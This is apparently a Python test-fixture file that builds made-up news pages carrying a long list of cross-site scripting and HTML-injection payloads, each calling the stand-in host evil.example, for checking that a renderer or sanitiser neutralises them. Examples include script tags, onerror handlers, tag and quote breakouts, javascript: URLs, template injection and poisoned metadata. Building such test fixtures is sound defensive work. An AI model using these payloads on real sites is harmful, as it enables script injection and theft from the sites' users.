"""Captures that try to run or to load something in whatever page shows them; all made up.

Each asks for `https://evil.example/...` or sets `window.ran`, so that what works is noticed.
"""

EVIL = "https://evil.example"
RUN = f"window.ran=1;new Image().src='{EVIL}/ran';alert(1)"
STORY = (
    "<p>The bridge over the Lenn reopened on Monday after two years of repairs, the county said."
    "<p>Mayor Ulla Brandt cut the ribbon at noon and was the first to walk across it with a band."
)


def shown(markup: str) -> str:
    """Return markup as the text of a story: what an explanation has to escape."""
    text = markup.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return (
        f"<h1>Bridge {text}</h1>{STORY}<p>{text} is what the engineer wrote, the county said.</p>"
    )


def page(markup: str, head: str = "") -> str:
    """Return a page that holds markup as it is, with a story around."""
    body = f"<h1>Bridge reopens</h1>{STORY}{markup}{STORY}"
    return f"<html><head>{head}</head><body>{body}</body></html>"


MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script-src": f"<script src='{EVIL}/a.js'></script>",
    "handler": f'<img src=x onerror="{RUN}">',
    "svg-onload": f'<svg onload="{RUN}"><circle r=9></svg>',
    "svg-use": f'<svg><use href="{EVIL}/a.svg#x"/><image href="{EVIL}/b.png"/></svg>',
    "svg-animate": '<svg><a xlink:href="javascript:alert(1)"><animate/></a></svg>',
    "iframe": f'<iframe src="{EVIL}/frame" srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
    "object": f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/refresh">',
    "base": f'<base href="{EVIL}/">',
    "link": f'<link rel=stylesheet href="{EVIL}/a.css"><link rel=preload href="{EVIL}/p">',
    "style-url": f"<style>body{{background:url({EVIL}/bg)}}@import '{EVIL}/i.css';</style>",
    "style-attribute": f'<p style="background:url({EVIL}/attr)">x</p>',
    "end-style": f"</style><script>{RUN}</script>",
    "end-script": f"</script><script>{RUN}</script>",
    "end-title": f"</title></head><body onload='{RUN}'>",
    "end-comment": f"--><script>{RUN}</script><!--",
    "end-textarea": f"</textarea></pre></details><script>{RUN}</script>",
    "quote-breakout": f'" autofocus onfocus="{RUN}" x="',
    "single-quote-breakout": f"' onmouseover='{RUN}' style='position:fixed;inset:0",
    "form": f'<form action="{EVIL}/f"><input autofocus onfocus="{RUN}"><button>x</button></form>',
    "media": f'<video src="{EVIL}/v" autoplay poster="{EVIL}/p"></video><audio src="{EVIL}/a">',
    "srcset": f'<img srcset="{EVIL}/1 1x, {EVIL}/2 2x"><picture><source srcset="{EVIL}/3">',
    "template": "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} <%= 1 %> #{7*7}",
    "mathml": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></table></math>',
    "data-url": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "entities": "&lt;script&gt;window.ran=1&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#62;",
    "dom-clobbering": "<a id=blocks name=show></a><form id=body><input name=attributes></form>",
}

CAPTURES = {
    **{name: page(markup) for name, markup in MARKUP.items()},
    **{f"{name} as text": shown(markup) for name, markup in MARKUP.items()},
    "metadata": page(
        "",
        f'<meta property="og:title" content="&lt;script&gt;{RUN}&lt;/script&gt;">'
        '<meta property="og:image" content="javascript:alert(1)">'
        f'<meta name="author" content="&lt;img src=x onerror=&quot;{RUN}&quot;&gt;">'
        '<link rel="canonical" href="javascript:alert(1)">'
        f'<meta property="og:site_name" content="</style><script>{RUN}</script>">',
    ),
    "json-ld": page(
        "",
        '<script type="application/ld+json">{"@type":"NewsArticle","headline":"<img src=x onerror='
        'alert(1)>","author":"</script><script>window.ran=1</script>"}</script>',
    ),
    "bidi": page(
        "<p>\u202ethgir ot tfel \u2066\u2067\u202d dna kcab\u2069 the county said here.</p>"
    ),
    "huge-words": page(f"<p>{'W' * 5000}</p><p>{'橋' * 3000}</p><pre>{'_' * 4000}</pre>"),
    "zalgo": page(
        "<p>" + "".join(c + "\u0336\u0489\u0316" * 20 for c in "the county said") + "</p>"
    ),
    "controls": page("<p>\x00\x01\x1b[31m\x1b]0;x\x07\x9b2J and the county said so on Monday.</p>"),
    "surrogates": page("<p>&#xD800;&#xDFFF; &#0; &#x1F; the county said so on Monday again.</p>"),
    "deep": page("<div>" * 2000 + "<p>deep</p>" + "</div>" * 2000),
    "text": f"{MARKUP['script']}\n\n{MARKUP['handler']}\n\n{MARKUP['end-style']}\n\nIt rained.",
}
"""At least thirty, as markup and as text that looks like it."""
